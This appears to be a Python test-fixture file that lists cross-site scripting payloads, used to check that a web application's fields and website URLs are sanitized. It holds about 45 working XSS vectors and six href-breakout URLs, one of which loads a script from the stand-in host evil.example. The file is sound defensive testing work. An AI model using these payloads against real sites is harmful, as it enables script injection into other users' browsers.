"""Cross-site scripting vectors posted into every field through every write path.

Each one, if it ran, would call alert() or set window.__pwned; the browser tests set a
trap for both and then look for any live element or attribute that should not exist.
"""

VECTORS = [
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('xss-2')>",
    "<IMG SRC=\"javascript:alert('xss-3');\">",
    "<svg onload=alert('xss-4')>",
    "<svg><script>alert('xss-5')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-6')>",
    "<details open ontoggle=alert('xss-7')>",
    "<iframe src=\"javascript:alert('xss-8')\"></iframe>",
    "<a href=\"javascript:alert('xss-9')\">click</a>",
    "[click](javascript:alert('xss-10'))",
    "[click](JaVaScRiPt:alert('xss-11'))",
    "[click](&#106;avascript:alert('xss-12'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLTEzJyk8L3NjcmlwdD4=)",
    "![img](javascript:alert('xss-14'))",
    "![img](https://evil.example/x.png\" onerror=\"alert('xss-15'))",
    "\"><script>alert('xss-16')</script>",
    "'><img src=x onerror=alert('xss-17')>",
    '" onmouseover="alert(\'xss-18\')" x="',
    "' onfocus='alert(`xss-19`)' autofocus='",
    '<a href="https://ok.example" onclick="alert(\'xss-20\')">ok</a>',
    "&lt;script&gt;alert('xss-21')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('xss-22')&#62;",
    "<scr<script>ipt>alert('xss-23')</scr</script>ipt>",
    "<ScRiPt>window.__pwned=24</ScRiPt>",
    "<style>*{background:url(javascript:alert('xss-25'))}</style>",
    "<object data=\"javascript:alert('xss-26')\"></object>",
    "<embed src=\"javascript:alert('xss-27')\">",
    "<form action=\"javascript:alert('xss-28')\"><button>go</button></form>",
    "<input autofocus onfocus=alert('xss-29')>",
    "<body onload=alert('xss-30')>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    '<svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert("xss-31")//\'>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-32')>\">",
    "<template><img src=x onerror=alert('xss-33')></template>",
    "<base href=\"javascript:alert('xss-34')//\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss-35\')">',
    "`<img src=x onerror=alert('xss-36')>` and ```\n<script>alert('xss-37')</script>\n```",
    "> <img src=x onerror=alert('xss-38')>",
    "<https://ok.example/\"onmouseover=\"alert('xss-39')>",
    "https://ok.example/?q=<script>alert('xss-40')</script>",
]

# Websites: only http(s) URLs are accepted; these try to break out of the href attribute.
WEBSITES = [
    "https://x.example/\"onmouseover=\"alert('xss-41')",
    "https://x.example/'onfocus='alert(1)'autofocus='",
    "https://x.example/\"><script>alert('xss-42')</script>",
    "https://x.example/?a=<img/src=x/onerror=alert('xss-43')>",
    "javascript:alert('xss-44')",
    "data:text/html,<script>alert('xss-45')</script>",
]
